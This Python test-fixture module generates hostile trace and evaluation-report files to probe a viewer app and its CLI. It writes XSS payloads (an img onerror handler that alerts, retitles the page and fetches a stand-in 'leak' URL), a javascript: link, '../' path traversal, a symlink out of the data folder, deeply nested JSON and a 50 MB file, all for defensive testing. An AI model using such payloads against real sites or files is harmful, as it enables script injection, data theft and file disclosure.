"""Saved files as an attacker writes them by hand: traces and evaluation reports with script in the fields
the code expects to be numbers or ids, NaN, wrong types, a 50,000-deep nesting, a 50 MB file, paths that lead out of
the data folder, and a link in the data folder pointing out. Shared by the decoder's property tests, the CLI tests,
the browser test and scripts/probe_saved_files.py (which records what each file does to the app and the CLI).

Every script planted here leaves a trace a test can look for: it opens a dialog (`alert`), sets the page's title to
PWNED, plants an element with an id starting "planted" and asks 127.0.0.1:9 (a port nobody opened) for a file. A
file outside the data folder holds the marker OUTSIDE_MARKER: shown anywhere, it was read."""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
BUNDLED = ROOT / "assets" / "traces"
EVALS = ROOT / "docs" / "evals"

PWNED = "PWNED"
OUTSIDE_MARKER = "OUTSIDE-THE-DATA-FOLDER"
LEAK_URL = "http://127.0.0.1:9/leak"


def script(tag: str) -> str:
    """An element that runs script as soon as it is parsed as HTML: a dialog, the title, a planted element, a
    request."""
    action = (f"alert('{tag}');document.title='{PWNED}';var e=document.createElement('b');e.id='planted-{tag}';"
              f"document.body.appendChild(e);fetch('{LEAK_URL}?{tag}')")
    return f"<img id=\"planted-img-{tag}\" src=x onerror=\"{action}\">"


def _bundled(name: str) -> dict[str, Any]:
    return json.loads((BUNDLED / f"{name}.json").read_text(encoding="utf-8"))


def _events(data: dict[str, Any], kind: str) -> list[dict[str, Any]]:
    return [e for e in data["events"] if e.get("kind") == kind]


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def hostile_traces() -> dict[str, str]:
    """File name → the file's text, for every hostile trace (the 50 MB one is written by `write_big`)."""
    files: dict[str, str] = {}

    numbers = _bundled("walkthrough")
    for e in _events(numbers, "base_retrieved"):
        e["k"] = script("k")
    for e in _events(numbers, "beams_searched"):
        e["width"], e["length"], e["max_neighbours"] = script("width"), script("length"), script("neighbours")
    files["numbers_as_html.json"] = json.dumps(numbers)

    ids = _bundled("walkthrough")
    for e in _events(ids, "beams_searched"):
        for t in e["triples"] + e.get("candidate_triples", []):
            t["passage_id"] = script("passage_id")
    files["passage_id_as_html.json"] = json.dumps(ids)

    ppr = _bundled("walkthrough_ppr")
    for e in _events(ppr, "ppr_ranked"):
        for p in e["passages"][:3]:
            p["id"] = script(f"ppr_passage_{e['passages'].index(p)}")
        for edge in e["edges"]:
            if edge["kind"] == "context":
                edge["target"] = e["passages"][0]["id"]
            elif edge["kind"] == "synonym":
                edge["label"] = script("synonym")
            edge["weight"] = script("weight")
    files["ppr_edges_as_html.json"] = json.dumps(ppr)

    iteration = _bundled("walkthrough")
    for e in iteration["events"]:
        if e.get("iteration") == 1:
            e["iteration"] = script("iteration")
    files["iteration_as_html.json"] = json.dumps(iteration)

    nan = _bundled("walkthrough")
    for e in _events(nan, "run_finished"):
        e["recall"]["5"] = float("nan")
        e["total_ms"] = float("inf")
    files["nan_recall.json"] = json.dumps(nan)  # json writes NaN and Infinity, as Python's json reads them

    wrong = _bundled("walkthrough")
    for e in _events(wrong, "base_retrieved"):
        e["passages"] = "not a list"
    for e in _events(wrong, "answered"):
        e["em"] = "<b>1</b>"
    files["wrong_types.json"] = json.dumps(wrong)

    keys = _bundled("walkthrough")
    for e in _events(keys, "run_finished"):
        e["recall"] = {script("recall_key"): 0.5, "[x](javascript:alert(1))": 0.5}
    for e in _events(keys, "run_started"):
        e["settings"]["qa_top_k"] = script("qa_top_k")
        e["settings"]["prompts"] = script("prompts")
    files["keys_and_settings_as_html.json"] = json.dumps(keys)

    files["events_is_a_number.json"] = json.dumps({"format": "gear-trace", "version": 1, "events": 5})
    files["deep_nesting.json"] = ('{"format": "gear-trace", "version": 1, "events": [{"kind": "warned", '
                                  '"iteration": 1, "message": ' + _nested(50_000) + "}]}")
    files["huge_number.json"] = json.dumps(_bundled("walkthrough")).replace('"k": 10', '"k": ' + "9" * 5000, 1)
    files["not_json.json"] = "\x00\x01 this is no JSON {"
    return files


def outside_trace(folder: Path) -> Path:
    """A trace outside the data folder: the walk-through with OUTSIDE_MARKER as the question and every title."""
    data = _bundled("walkthrough")
    for e in data["events"]:
        if e.get("kind") == "run_started":
            e["question"] = f"{OUTSIDE_MARKER} question"
        for p in e.get("passages", []) if isinstance(e.get("passages"), list) else []:
            p["title"] = f"{OUTSIDE_MARKER} {p['title']}"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "secret.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def write_big(path: Path, megabytes: int = 50) -> Path:
    """A trace of `megabytes` MB: the walk-through with one warning of that size."""
    data = _bundled("walkthrough")
    data["events"].insert(1, {"kind": "warned", "iteration": 1, "message": "x" * (megabytes * 1_000_000)})
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def write_hostile_traces(folder: Path, outside: Path | None = None, big: bool = True) -> list[Path]:
    """Every hostile trace in `folder` (and, given a file outside, a link to it); their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, text in hostile_traces().items():
        path = folder / name
        path.write_text(text, encoding="utf-8")
        paths.append(path)
    if big:
        paths.append(write_big(folder / "fifty_megabytes.json"))
    if outside is not None:
        link = folder / "link_out.json"
        if link.is_symlink() or link.exists():
            link.unlink()
        os.symlink(outside, link)
        paths.append(link)
    return paths


# -- evaluation reports ------------------------------------------------------------------------------------------------
BASE_REPORTS = ("dev50_every2_n20_naive", "dev50_every2_n20_gear_paper")  # two bundled runs of the same questions
QUESTIONS = 3  # each hostile report keeps the first few questions


def base_report(name: str, folder: Path) -> dict[str, Any]:
    """A bundled report cut to its first questions, its traces copied beside it (as the app's evaluations keep
    them): <folder>/<name>.json's traces in <folder>/<name>/traces/."""
    data = json.loads((EVALS / f"{name}.json").read_text(encoding="utf-8"))
    data["per_question"] = data["per_question"][:QUESTIONS]
    data["n_questions"] = QUESTIONS
    traces = folder / name / "traces"
    traces.mkdir(parents=True, exist_ok=True)
    for entry in data["per_question"]:
        source = ROOT / entry["trace_file"]
        (traces / source.name).write_text(source.read_text(encoding="utf-8"), encoding="utf-8")
        entry["trace_file"] = str(traces / source.name)
    return data


def hostile_reports(folder: Path, outside: Path) -> dict[str, str]:
    """File name → text of every hostile report, made in `folder` (beside two good ones), `outside` a trace out of
    it. The reports that lead out name the outside trace for their first question and carry no diagnosis for it,
    so whatever lines them up reads the trace."""
    good = {name: base_report(name, folder) for name in BASE_REPORTS}
    files = {f"{name}.json": json.dumps(data) for name, data in good.items()}
    base = good[BASE_REPORTS[1]]
    first_id = base["per_question"][0]["id"]
    secret = json.loads(outside.read_text(encoding="utf-8"))
    for e in secret["events"]:
        if e.get("kind") == "run_started":
            e["question"] = base["per_question"][0]["question"]
            e["question_id"] = first_id
    outside.write_text(json.dumps(secret), encoding="utf-8")

    def variant(change: Any) -> str:
        data = copy.deepcopy(base)
        change(data)
        return json.dumps(data)

    def absolute(data: dict[str, Any]) -> None:
        data["per_question"][0]["trace_file"] = str(outside.resolve())
        data["per_question"][0]["diagnosis"] = None

    def dotdot(data: dict[str, Any]) -> None:
        data["per_question"][0]["trace_file"] = "../" * 12 + str(outside.resolve()).lstrip("/")
        data["per_question"][0]["diagnosis"] = None

    def numbers(data: dict[str, Any]) -> None:
        data["recall"]["5"] = float("nan")
        data["per_question"][0]["recall"]["5"] = script("report_recall")
        data["per_question"][1]["n_gold"] = script("n_gold")
        data["per_question"][1]["seconds"] = float("inf")

    def shapes(data: dict[str, Any]) -> None:
        data["per_question"][0] = "not an entry"
        data["per_question"][1]["recall"] = [1, 2]

    def words(data: dict[str, Any]) -> None:
        data["label"] = script("label")
        data["method"] = script("method")
        for entry in data["per_question"]:
            entry["answer"] = script("answer")
        data["per_question"][0]["diagnosis"]["passages"][0]["title"] = script("gold_title")

    files["report_trace_absolute.json"] = variant(absolute)
    files["report_trace_dotdot.json"] = variant(dotdot)
    files["report_numbers_as_html.json"] = variant(numbers)
    files["report_wrong_shapes.json"] = variant(shapes)
    files["report_words_as_html.json"] = variant(words)
    files["report_per_question_is_a_number.json"] = json.dumps({"method": "gear", "recall": {"5": 1},
                                                                "n_questions": 1, "per_question": 5})
    files["report_deep_nesting.json"] = ('{"method": "gear", "recall": {"5": 1}, "n_questions": 1, "settings": '
                                         + _nested(50_000) + ', "per_question": []}')
    return files


def write_hostile_reports(folder: Path, outside: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for name, text in hostile_reports(folder, outside).items():
        path = folder / name
        path.write_text(text, encoding="utf-8")
        paths.append(path)
    return paths
